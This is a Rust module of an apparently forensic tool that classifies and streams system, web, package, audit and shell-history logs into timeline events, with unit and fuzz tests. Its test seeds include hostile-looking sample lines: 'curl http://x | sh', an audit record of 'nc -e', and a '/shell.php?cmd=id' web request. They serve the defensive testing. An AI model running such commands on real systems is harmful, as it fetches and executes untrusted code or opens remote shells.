//! Logs → events. Which files are logs ([`classify`]: by their path on the examined system, rotated
//! copies `.1`, `.2.gz`, `-20240107` included), reading them as streams of lines (gzip detected by its
//! magic, a line longer than [`MAX_LINE`] cut, never the whole file in memory), and one parser per
//! format. A line no parser understands is counted and handed on raw ([`Sink::unparsed`]), never dropped.
//!
//! Never: follow a path out of the examined root, run anything found there.

use std::fs::File;
use std::io::{BufRead, BufReader, Read};
use std::path::{Path, PathBuf};

use super::event::Event;
use super::tz::Zone;

pub mod heuristics;
pub mod journal;
pub mod pkg;
pub mod shell;
pub mod syslog;
pub mod utmp;
pub mod web;

/// Longest line kept whole; the rest of a longer line is skipped (and the event says it was cut).
pub const MAX_LINE: usize = 64 * 1024;

/// Errors reading a log file (a line that does not parse is not an error).
#[derive(Debug, thiserror::Error)]
pub enum LogError {
    #[error("opening the log {path}")]
    Open {
        path: PathBuf,
        #[source]
        source: std::io::Error,
    },
    #[error("reading the log {path}")]
    Read {
        path: PathBuf,
        #[source]
        source: std::io::Error,
    },
    #[error("{path}: {why}")]
    Format { path: PathBuf, why: String },
    #[error("passing on an event from {path}")]
    Sink {
        path: PathBuf,
        #[source]
        source: Box<dyn std::error::Error + Send + Sync>,
    },
}

/// What a log file is.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, serde::Serialize)]
#[serde(rename_all = "kebab-case")]
pub enum LogKind {
    /// `auth.log`, `secure`.
    Auth,
    /// `syslog`, `messages`, `kern.log`, `daemon.log`, `cron`, `maillog`, ...
    Syslog,
    /// systemd journal file (`*.journal`, `*.journal~`).
    Journal,
    Wtmp,
    Btmp,
    Lastlog,
    /// nginx/apache access logs (combined/common format).
    WebAccess,
    /// nginx/apache error logs.
    WebError,
    Dpkg,
    AptHistory,
    /// `yum.log` (syslog-style times, no year).
    Yum,
    /// `dnf.log`, `dnf.rpm.log`, `dnf.librepo.log`, `hawkey.log`.
    Dnf,
    Audit,
    /// `.bash_history` with `#<epoch>` lines, `.zsh_history` extended format.
    ShellHistory,
}

impl LogKind {
    /// The `source` column for events from this kind of log.
    pub fn source(self) -> &'static str {
        match self {
            LogKind::Auth => "auth.log",
            LogKind::Syslog => "syslog",
            LogKind::Journal => "journal",
            LogKind::Wtmp => "wtmp",
            LogKind::Btmp => "btmp",
            LogKind::Lastlog => "lastlog",
            LogKind::WebAccess => "web-access",
            LogKind::WebError => "web-error",
            LogKind::Dpkg => "dpkg",
            LogKind::AptHistory => "apt-history",
            LogKind::Yum => "yum",
            LogKind::Dnf => "dnf",
            LogKind::Audit => "audit",
            LogKind::ShellHistory => "shell-history",
        }
    }
}

/// A log file found on the examined system.
#[derive(Debug, Clone, PartialEq, Eq, PartialOrd, Ord)]
pub struct LogFile {
    pub kind: LogKind,
    /// Path on the examined system (`/var/log/auth.log.2.gz`).
    pub shown: String,
    /// Where to read it on this machine.
    pub real: PathBuf,
    /// Rotation number: 0 for the live file, N for `.N`/`.N.gz`, dated rotations count from 1.
    pub rotation: u32,
    /// Modification time, UNIX seconds.
    pub mtime: i64,
}

/// Splits `auth.log.2.gz` into (`auth.log`, 2); `secure-20240107` into (`secure`, 1); `syslog` (…, 0).
pub fn rotation(name: &str) -> (&str, u32) {
    let name = name
        .strip_suffix(".gz")
        .or_else(|| name.strip_suffix(".xz"))
        .or_else(|| name.strip_suffix(".zst"))
        .unwrap_or(name);
    if let Some((base, n)) = name.rsplit_once('.')
        && !n.is_empty()
        && n.len() <= 4
        && n.bytes().all(|b| b.is_ascii_digit())
    {
        return (base, n.parse().unwrap_or(0));
    }
    if let Some((base, d)) = name.rsplit_once('-')
        && d.len() == 8
        && d.bytes().all(|b| b.is_ascii_digit())
    {
        return (base, 1);
    }
    (name, 0)
}

/// What kind of log a path on the examined system is (`/var/log/nginx/access.log.1`), if any.
pub fn classify(path: &str) -> Option<LogKind> {
    let (dir, name) = path.rsplit_once('/').unwrap_or(("", path));
    if name.ends_with(".journal") || name.ends_with(".journal~") {
        return dir.contains("/journal").then_some(LogKind::Journal);
    }
    if name == ".bash_history" || name == ".zsh_history" || name == ".history" {
        return Some(LogKind::ShellHistory);
    }
    let (base, _) = rotation(name);
    let in_var_log = dir == "/var/log" || dir.starts_with("/var/log/");
    if !in_var_log {
        return None;
    }
    let sub = dir.strip_prefix("/var/log").unwrap_or("");
    Some(match (sub, base) {
        (_, "auth.log" | "secure") => LogKind::Auth,
        (
            "",
            "syslog" | "messages" | "kern.log" | "daemon.log" | "user.log" | "cron" | "cron.log"
            | "maillog" | "mail.log" | "debug" | "ufw.log",
        ) => LogKind::Syslog,
        ("", "wtmp") => LogKind::Wtmp,
        ("", "btmp") => LogKind::Btmp,
        ("", "lastlog") => LogKind::Lastlog,
        ("", "dpkg.log") => LogKind::Dpkg,
        ("/apt", "history.log") => LogKind::AptHistory,
        ("", "yum.log") => LogKind::Yum,
        ("", "dnf.log" | "dnf.rpm.log" | "dnf.librepo.log" | "hawkey.log") => LogKind::Dnf,
        ("/audit", "audit.log") => LogKind::Audit,
        (s, b)
            if s.starts_with("/nginx") || s.starts_with("/apache2") || s.starts_with("/httpd") =>
        {
            if b.contains("access") {
                LogKind::WebAccess
            } else if b.contains("error") {
                LogKind::WebError
            } else {
                return None;
            }
        }
        _ => return None,
    })
}

/// Where events and unparsed lines go.
pub trait Sink {
    /// One event.
    fn event(&mut self, event: Event) -> Result<(), Box<dyn std::error::Error + Send + Sync>>;
    /// A line (or record) no parser understood, kept raw with where it was and why.
    fn unparsed(
        &mut self,
        path: &str,
        line: u64,
        raw: &str,
        why: &str,
    ) -> Result<(), Box<dyn std::error::Error + Send + Sync>>;
}

/// What parsing one file gave.
#[derive(Debug, Clone, Default, PartialEq, Eq, serde::Serialize)]
pub struct FileStats {
    pub lines: u64,
    pub events: u64,
    pub unparsed: u64,
    /// Records a reader could not decode for a stated reason (journal compression it lacks, ...).
    pub skipped: u64,
    /// How the year was inferred, for formats without one.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub year_note: Option<String>,
    /// The time of the file's first event (UTC microseconds): the bound its older rotation's last
    /// line must not pass.
    #[serde(skip)]
    pub first_time: Option<i64>,
}

/// The next newer rotation of the same log (`auth.log.1` for `auth.log.2.gz`), already read: an
/// older rotation cannot hold events after the newer one's first, which bounds the inferred year.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct NewerRotation {
    /// Path on the examined system.
    pub shown: String,
    /// Its first event, UTC microseconds.
    pub first_time: i64,
}

/// What every parser needs besides the bytes.
pub struct Context<'a> {
    pub file: &'a LogFile,
    /// The examined system's host name (for formats that do not name one).
    pub host: &'a str,
    /// The zone for zone-less times.
    pub zone: &'a Zone,
    pub sink: &'a mut dyn Sink,
    pub stats: FileStats,
    /// For a rotated log: the next newer rotation, when it has been read and had events.
    pub newer: Option<NewerRotation>,
}

impl Context<'_> {
    /// Hands on an event.
    pub fn emit(&mut self, mut e: Event) -> Result<(), LogError> {
        if !self.zone.choice.known && e.attributes.contains_key("local_time") {
            e.attributes.insert(
                "time_zone".into(),
                "unknown: the local time was read as UTC".into(),
            );
        }
        self.stats.events += 1;
        self.stats.first_time.get_or_insert(e.timestamp);
        self.sink.event(e).map_err(|source| LogError::Sink {
            path: self.file.real.clone(),
            source,
        })
    }

    /// Keeps a line no parser understood.
    pub fn unparsed(&mut self, line_no: u64, raw: &str, why: &str) -> Result<(), LogError> {
        self.stats.unparsed += 1;
        self.sink
            .unparsed(&self.file.shown, line_no, raw, why)
            .map_err(|source| LogError::Sink {
                path: self.file.real.clone(),
                source,
            })
    }

    /// A new event from this file at `micros`.
    pub fn event(&self, micros: i64, desc: &str, message: String) -> Event {
        Event::new(
            micros,
            desc,
            self.file.kind.source(),
            &self.file.shown,
            self.host,
            message,
        )
    }

    /// A local wall-clock time → UTC microseconds in the chosen zone.
    pub fn local(&self, c: &super::event::Civil) -> i64 {
        self.zone.to_utc(c) * 1_000_000 + i64::from(c.micros)
    }
}

/// Opens a log for reading, decompressing gzip (by its magic bytes, whatever the name says).
pub fn open(path: &Path) -> Result<Box<dyn BufRead>, LogError> {
    let err = |source| LogError::Open {
        path: path.to_owned(),
        source,
    };
    let mut f = BufReader::with_capacity(256 * 1024, File::open(path).map_err(err)?);
    let magic = f.fill_buf().map_err(err)?;
    if magic.starts_with(&[0x1f, 0x8b]) {
        let gz = flate2::bufread::MultiGzDecoder::new(f);
        return Ok(Box::new(BufReader::with_capacity(256 * 1024, gz)));
    }
    if magic.starts_with(&[0x28, 0xb5, 0x2f, 0xfd]) {
        let z = zstd::stream::read::Decoder::with_buffer(f).map_err(err)?;
        return Ok(Box::new(BufReader::with_capacity(256 * 1024, z)));
    }
    Ok(Box::new(f))
}

/// Calls `each(line_number, line)` for every line of a log (lossy UTF-8, without `\r\n`). A line longer
/// than [`MAX_LINE`] is cut there and `cut` is true.
pub fn for_each_line(
    path: &Path,
    mut each: impl FnMut(u64, &str, bool) -> Result<(), LogError>,
) -> Result<u64, LogError> {
    let mut r = open(path)?;
    let mut buf = Vec::with_capacity(1024);
    let mut n = 0u64;
    let err = |source| LogError::Read {
        path: path.to_owned(),
        source,
    };
    loop {
        buf.clear();
        let got = (&mut r)
            .take(MAX_LINE as u64)
            .read_until(b'\n', &mut buf)
            .map_err(err)?;
        if got == 0 {
            break;
        }
        let mut cut = false;
        if buf.last() != Some(&b'\n') && buf.len() >= MAX_LINE {
            cut = true;
            // Skip the rest of the line.
            let mut sink = Vec::new();
            loop {
                sink.clear();
                let g = (&mut r)
                    .take(MAX_LINE as u64)
                    .read_until(b'\n', &mut sink)
                    .map_err(err)?;
                if g == 0 || sink.last() == Some(&b'\n') {
                    break;
                }
            }
        }
        while matches!(buf.last(), Some(b'\n' | b'\r')) {
            buf.pop();
        }
        n += 1;
        let line = String::from_utf8_lossy(&buf);
        each(n, &line, cut)?;
    }
    Ok(n)
}

/// Parses one log file into events.
pub fn parse(ctx: &mut Context<'_>) -> Result<(), LogError> {
    match ctx.file.kind {
        LogKind::Auth | LogKind::Syslog | LogKind::Yum => syslog::parse(ctx),
        LogKind::Journal => journal::parse(ctx),
        LogKind::Wtmp | LogKind::Btmp => utmp::parse(ctx),
        LogKind::Lastlog => utmp::parse_lastlog(ctx),
        LogKind::WebAccess => web::parse_access(ctx),
        LogKind::WebError => web::parse_error(ctx),
        LogKind::Dpkg => pkg::parse_dpkg(ctx),
        LogKind::AptHistory => pkg::parse_apt_history(ctx),
        LogKind::Dnf => pkg::parse_dnf(ctx),
        LogKind::Audit => pkg::parse_audit(ctx),
        LogKind::ShellHistory => shell::parse(ctx),
    }
}

/// Parses `digits` as a number (ASCII only).
pub fn num<T: std::str::FromStr>(s: &str) -> Option<T> {
    if s.is_empty() || !s.bytes().all(|b| b.is_ascii_digit()) {
        return None;
    }
    s.parse().ok()
}

#[cfg(test)]
pub(crate) mod testutil {
    use super::*;

    /// A sink that keeps everything.
    #[derive(Default)]
    pub struct Collect {
        pub events: Vec<Event>,
        pub unparsed: Vec<(u64, String, String)>,
    }

    impl Sink for Collect {
        fn event(&mut self, e: Event) -> Result<(), Box<dyn std::error::Error + Send + Sync>> {
            self.events.push(e);
            Ok(())
        }
        fn unparsed(
            &mut self,
            _path: &str,
            line: u64,
            raw: &str,
            why: &str,
        ) -> Result<(), Box<dyn std::error::Error + Send + Sync>> {
            self.unparsed.push((line, raw.to_owned(), why.to_owned()));
            Ok(())
        }
    }

    /// Parses `content` as a file of `kind` shown at `shown`, with mtime `mtime`, in `zone`.
    pub fn run(
        kind: LogKind,
        shown: &str,
        content: &[u8],
        mtime: i64,
        zone: &Zone,
    ) -> (Collect, FileStats) {
        run_after(kind, shown, content, mtime, zone, None)
    }

    /// As [`run`], with the next newer rotation already read.
    pub fn run_after(
        kind: LogKind,
        shown: &str,
        content: &[u8],
        mtime: i64,
        zone: &Zone,
        newer: Option<NewerRotation>,
    ) -> (Collect, FileStats) {
        let dir = tempfile::tempdir().unwrap();
        let real = dir.path().join("log");
        std::fs::write(&real, content).unwrap();
        let file = LogFile {
            kind,
            shown: shown.to_owned(),
            real,
            rotation: rotation(shown.rsplit('/').next().unwrap()).1,
            mtime,
        };
        let mut sink = Collect::default();
        let mut ctx = Context {
            file: &file,
            host: "examined",
            zone,
            sink: &mut sink,
            stats: FileStats::default(),
            newer,
        };
        parse(&mut ctx).unwrap();
        let stats = ctx.stats;
        (sink, stats)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn paths_classify_with_their_rotations() {
        assert_eq!(classify("/var/log/auth.log"), Some(LogKind::Auth));
        assert_eq!(classify("/var/log/auth.log.2.gz"), Some(LogKind::Auth));
        assert_eq!(classify("/var/log/secure-20240107"), Some(LogKind::Auth));
        assert_eq!(classify("/var/log/messages.1"), Some(LogKind::Syslog));
        assert_eq!(
            classify("/var/log/nginx/access.log.3.gz"),
            Some(LogKind::WebAccess)
        );
        assert_eq!(
            classify("/var/log/apache2/error.log"),
            Some(LogKind::WebError)
        );
        assert_eq!(
            classify("/var/log/apt/history.log.1.gz"),
            Some(LogKind::AptHistory)
        );
        assert_eq!(classify("/var/log/audit/audit.log.4"), Some(LogKind::Audit));
        assert_eq!(
            classify("/var/log/journal/0123/system@x-y-z.journal"),
            Some(LogKind::Journal)
        );
        assert_eq!(
            classify("/home/eve/.bash_history"),
            Some(LogKind::ShellHistory)
        );
        assert_eq!(classify("/var/log/wtmp.1"), Some(LogKind::Wtmp));
        assert_eq!(classify("/etc/auth.log"), None);
        assert_eq!(classify("/var/log/nginx/something"), None);
        assert_eq!(rotation("auth.log.2.gz"), ("auth.log", 2));
        assert_eq!(rotation("syslog"), ("syslog", 0));
    }

    #[test]
    fn gzip_logs_stream_and_long_lines_are_cut() {
        use std::io::Write;
        let dir = tempfile::tempdir().unwrap();
        let p = dir.path().join("x.gz");
        let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
        gz.write_all(b"one\r\n").unwrap();
        gz.write_all(&vec![b'x'; MAX_LINE * 2 + 10]).unwrap();
        gz.write_all(b"\nthree").unwrap();
        std::fs::write(&p, gz.finish().unwrap()).unwrap();
        let mut seen = Vec::new();
        let n = for_each_line(&p, |i, l, cut| {
            seen.push((i, l.len(), cut, l.chars().next()));
            Ok(())
        })
        .unwrap();
        assert_eq!(n, 3);
        assert_eq!(seen[0], (1, 3, false, Some('o')));
        assert_eq!(seen[1], (2, MAX_LINE, true, Some('x')));
        assert_eq!(seen[2], (3, 5, false, Some('t')));
    }
}

/// Bad input never panics: valid lines of every text format, cut and with multi-byte characters
/// spliced in at every position, go through every parser.
#[cfg(test)]
mod mangled {
    use super::testutil::run;
    use super::*;
    use crate::timeline::tz::Zone;

    #[test]
    fn mangled_lines_are_kept_or_parsed_never_a_panic() {
        let samples: &[(LogKind, &str, &str)] = &[
            (
                LogKind::Auth,
                "/var/log/auth.log",
                "Jan  2 03:04:05.123 web1 sshd[812]: Accepted password for root from 10.0.0.9 port 22 ssh2",
            ),
            (
                LogKind::Syslog,
                "/var/log/syslog",
                "2024-03-01T10:00:00.250000+01:00 web1 CRON[5]: (root) CMD (x)",
            ),
            (
                LogKind::Yum,
                "/var/log/yum.log",
                "Jan 02 03:04:05 Installed: nmap-7.0.x86_64",
            ),
            (
                LogKind::WebAccess,
                "/var/log/nginx/access.log",
                r#"203.0.113.7 - - [10/Oct/2023:13:55:36 -0700] "GET / HTTP/1.1" 200 2326 "-" "curl/8.0""#,
            ),
            (
                LogKind::WebError,
                "/var/log/apache2/error.log",
                "[Wed Oct 11 14:32:52.123456 2023] [core:error] [pid 35708] AH00037: x",
            ),
            (
                LogKind::WebError,
                "/var/log/nginx/error.log",
                "2023/10/10 13:55:36 [error] 12#12: *1 open() failed",
            ),
            (
                LogKind::Dpkg,
                "/var/log/dpkg.log",
                "2024-01-02 03:04:05 install nmap:amd64 <none> 7.93",
            ),
            (
                LogKind::AptHistory,
                "/var/log/apt/history.log",
                "Start-Date: 2024-01-02  03:04:05",
            ),
            (
                LogKind::Dnf,
                "/var/log/dnf.log",
                "2024-01-02T03:04:05+0100 INFO Installed: nmap",
            ),
            (
                LogKind::Audit,
                "/var/log/audit/audit.log",
                "type=ADD_USER msg=audit(1700000000.123:456): pid=1",
            ),
            (LogKind::ShellHistory, "/root/.bash_history", "#1700000000"),
        ];
        let zone = Zone::utc("t");
        for (kind, shown, line) in samples {
            let mut content = String::new();
            for i in 0..=line.len() {
                if !line.is_char_boundary(i) {
                    continue;
                }
                content.push_str(&line[..i]);
                content.push('\n');
                content.push_str(&line[..i]);
                content.push('é');
                content.push_str(&line[i..]);
                content.push('\n');
                content.push_str(&line[..i]);
                content.push('\u{1F600}');
                content.push_str(line.get(i + 1..).unwrap_or(""));
                content.push('\n');
            }
            let mut bytes = content.into_bytes();
            bytes.extend_from_slice(b"\xff\xfe\x00 broken\n");
            let (c, s) = run(*kind, shown, &bytes, 1_735_689_600, &zone);
            assert_eq!(
                s.events + s.unparsed,
                c.events.len() as u64 + c.unparsed.len() as u64
            );
            assert!(s.events > 0, "{kind:?}: the intact line parses");
        }
    }
}

/// Fuzz targets (see `crate::fuzzing`): every log format of a suspect root, parsed as `rescue
/// timeline` parses it: the text formats, utmp/lastlog records and journal files.
#[cfg(test)]
mod fuzz {
    use super::*;
    use crate::fuzzing::Target;
    use std::os::unix::fs::FileExt;

    /// Where the objects of the journal seeds start (systemd-journal-remote wrote them after ~3.6 MB
    /// of hash tables; the seeds keep the header and the objects, the file is sparse in between).
    const JOURNAL_OBJECTS: u64 = 3_733_880;
    const JOURNAL_HEADER: usize = 264;

    const TEXT_KINDS: [(LogKind, &str); 11] = [
        (LogKind::Auth, "/var/log/auth.log"),
        (LogKind::Syslog, "/var/log/syslog"),
        (LogKind::Yum, "/var/log/yum.log"),
        (LogKind::WebAccess, "/var/log/nginx/access.log"),
        (LogKind::WebError, "/var/log/apache2/error.log"),
        (LogKind::Dpkg, "/var/log/dpkg.log"),
        (LogKind::AptHistory, "/var/log/apt/history.log"),
        (LogKind::Dnf, "/var/log/dnf.log"),
        (LogKind::Audit, "/var/log/audit/audit.log"),
        (LogKind::ShellHistory, "/root/.bash_history"),
        (LogKind::WebError, "/var/log/nginx/error.log"),
    ];

    /// Counts what a parser hands over (the real sink sorts it to disk; keeping it all here would be
    /// the test's memory, not the parser's).
    #[derive(Default)]
    struct Count {
        events: u64,
        unparsed: u64,
    }

    impl Sink for Count {
        fn event(&mut self, _: Event) -> Result<(), Box<dyn std::error::Error + Send + Sync>> {
            self.events += 1;
            Ok(())
        }
        fn unparsed(
            &mut self,
            _: &str,
            _: u64,
            _: &str,
            _: &str,
        ) -> Result<(), Box<dyn std::error::Error + Send + Sync>> {
            self.unparsed += 1;
            Ok(())
        }
    }

    /// Parses `write`'s file as `kind`; every line is an event or kept as unparsed, never dropped.
    fn parse_as(kind: LogKind, shown: &str, write: impl FnOnce(&Path)) {
        let dir = tempfile::tempdir().unwrap_or_else(|e| panic!("temporary directory: {e}"));
        let real = dir.path().join("log");
        write(&real);
        let file = LogFile {
            kind,
            shown: shown.to_owned(),
            real,
            rotation: rotation(shown.rsplit('/').next().unwrap_or("")).1,
            mtime: 1_735_689_600,
        };
        let zone = Zone::utc("t");
        let mut sink = Count::default();
        let mut ctx = Context {
            file: &file,
            host: "examined",
            zone: &zone,
            sink: &mut sink,
            stats: FileStats::default(),
            newer: None,
        };
        let _ = parse(&mut ctx);
        let stats = ctx.stats;
        assert_eq!(stats.events + stats.unparsed, sink.events + sink.unparsed);
    }

    fn text_logs(b: &[u8]) {
        let (k, content) = b.split_first().unwrap_or((&0, b));
        let (kind, shown) = TEXT_KINDS[usize::from(*k) % TEXT_KINDS.len()];
        parse_as(kind, shown, |p| {
            let _ = std::fs::write(p, content);
        });
    }

    fn login_records(b: &[u8]) {
        let (k, content) = b.split_first().unwrap_or((&0, b));
        let (kind, shown) = match k % 3 {
            0 => (LogKind::Wtmp, "/var/log/wtmp"),
            1 => (LogKind::Btmp, "/var/log/btmp"),
            _ => (LogKind::Lastlog, "/var/log/lastlog"),
        };
        parse_as(kind, shown, |p| {
            let _ = std::fs::write(p, content);
        });
    }

    fn journals(b: &[u8]) {
        let (head, objects) = b.split_at(b.len().min(JOURNAL_HEADER));
        parse_as(LogKind::Journal, "/var/log/journal/x/system.journal", |p| {
            if let Ok(f) = File::create(p) {
                let _ = f.write_all_at(head, 0);
                let _ = f.set_len(JOURNAL_OBJECTS);
                let _ = f.write_all_at(objects, JOURNAL_OBJECTS);
            }
        });
    }

    fn utmp_record(kind: i16, pid: i32, line: &str, user: &str, host: &str, sec: i32) -> Vec<u8> {
        let mut r = vec![0u8; utmp::UTMP_SIZE];
        r[0..2].copy_from_slice(&kind.to_le_bytes());
        r[4..8].copy_from_slice(&pid.to_le_bytes());
        r[8..8 + line.len()].copy_from_slice(line.as_bytes());
        r[44..44 + user.len()].copy_from_slice(user.as_bytes());
        r[76..76 + host.len()].copy_from_slice(host.as_bytes());
        r[340..344].copy_from_slice(&sec.to_le_bytes());
        r
    }

    #[test]
    fn text_log_lines() {
        let samples: [(u8, &str); 11] = [
            (
                0,
                "Jan  2 03:04:05.123 web1 sshd[812]: Accepted password for root from 10.0.0.9 port 22 ssh2\nJan  2 03:04:06 web1 sudo:     root : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/sh\n",
            ),
            (
                1,
                "2024-03-01T10:00:00.250000+01:00 web1 CRON[5]: (root) CMD (x)\n<13>Mar  1 10:00:00 web1 kernel: x\n",
            ),
            (2, "Jan 02 03:04:05 Installed: nmap-7.0.x86_64\n"),
            (
                3,
                "203.0.113.7 - - [10/Oct/2023:13:55:36 -0700] \"GET /shell.php?cmd=id HTTP/1.1\" 200 2326 \"-\" \"curl/8.0\"\n",
            ),
            (
                4,
                "[Wed Oct 11 14:32:52.123456 2023] [core:error] [pid 35708] AH00037: x\n",
            ),
            (
                5,
                "2024-01-02 03:04:05 install nmap:amd64 <none> 7.93\n2024-01-02 03:04:06 status installed nmap:amd64 7.93\n",
            ),
            (
                6,
                "Start-Date: 2024-01-02  03:04:05\nCommandline: apt install nmap\nInstall: nmap:amd64 (7.93)\nEnd-Date: 2024-01-02  03:04:09\n\n",
            ),
            (7, "2024-01-02T03:04:05+0100 INFO Installed: nmap\n"),
            (
                8,
                "type=ADD_USER msg=audit(1700000000.123:456): pid=1 uid=0 acct=\"eve\"\ntype=EXECVE msg=audit(1700000001.000:457): argc=2 a0=\"nc\" a1=\"-e\"\n",
            ),
            (
                9,
                "#1700000000\ncurl http://x | sh\n#1700000100\nrm -rf /tmp/x\n",
            ),
            (10, "2023/10/10 13:55:36 [error] 12#12: *1 open() failed\n"),
        ];
        let mut t = Target::new("timeline-text");
        for (k, s) in samples {
            let mut b = vec![k];
            b.extend_from_slice(s.as_bytes());
            t = t.seed(b);
        }
        t.dict(&[
            b"\n",
            b" ",
            b"[",
            b"]",
            b":",
            b"\"",
            b"=",
            b"T",
            b"+01:00",
            b"\xff\xfe",
        ])
        .run(text_logs);
    }

    #[test]
    fn login_records_utmp() {
        let mut wtmp = vec![0u8];
        wtmp.extend(utmp_record(2, 0, "~", "reboot", "6.1.0", 1_700_000_000));
        wtmp.extend(utmp_record(
            7,
            42,
            "pts/0",
            "root",
            "203.0.113.9",
            1_700_000_100,
        ));
        wtmp.extend(utmp_record(8, 42, "pts/0", "", "", 1_700_000_200));
        let mut lastlog = vec![2u8];
        lastlog.extend(vec![0u8; utmp::LASTLOG_SIZE]);
        let mut entry = vec![0u8; utmp::LASTLOG_SIZE];
        entry[..4].copy_from_slice(&1_700_000_000i32.to_le_bytes());
        entry[4..9].copy_from_slice(b"pts/1");
        entry[36..47].copy_from_slice(b"203.0.113.9");
        lastlog.extend(entry);
        Target::new("timeline-utmp")
            .seed(wtmp)
            .seed(lastlog)
            .run(login_records);
    }

    #[test]
    fn journal_files() {
        let seed = |z: &[u8]| zstd::decode_all(z).unwrap_or_else(|e| panic!("fuzz seed: {e}"));
        Target::new("timeline-journal")
            .seed(seed(include_bytes!(
                "../../fuzz-seeds/journal-compact.seed.zst"
            )))
            .seed(seed(include_bytes!(
                "../../fuzz-seeds/journal-regular.seed.zst"
            )))
            .run(journals);
    }

    /// Found by `timeline-text`: an Apache error-log time with a 12-digit year overflowed the
    /// seconds since the epoch; the line is now kept as unparsed.
    #[test]
    fn regression_a_huge_year_is_not_a_time() {
        let input = include_bytes!("../../fuzz-seeds/regressions/timeline-text-year-overflow.bin");
        assert_eq!(crate::fuzzing::replay(text_logs, input), Ok(()));
    }

    /// Found by `timeline-text`: an audit record stamped 10^13 seconds overflowed the microseconds.
    #[test]
    fn regression_an_audit_stamp_past_the_range_is_unparsed() {
        let input =
            include_bytes!("../../fuzz-seeds/regressions/timeline-text-audit-seconds-overflow.bin");
        assert_eq!(crate::fuzzing::replay(text_logs, input), Ok(()));
    }

    /// Found by `timeline-text`: a bash history time stamp of 19 digits overflowed the microseconds.
    #[test]
    fn regression_a_shell_history_stamp_past_the_range_is_unparsed() {
        let input =
            include_bytes!("../../fuzz-seeds/regressions/timeline-text-shell-stamp-overflow.bin");
        assert_eq!(crate::fuzzing::replay(text_logs, input), Ok(()));
    }

    /// Found by `timeline-journal`: an LZ4-compressed field declaring 64 MiB reserved it all for a
    /// 1.7 KB journal; the compressed size now bounds the reservation.
    #[test]
    fn regression_an_lz4_field_size_does_not_reserve_memory() {
        let input = include_bytes!("../../fuzz-seeds/regressions/timeline-journal-lz4-size.bin");
        assert_eq!(crate::fuzzing::replay(journals, input), Ok(()));
    }
}
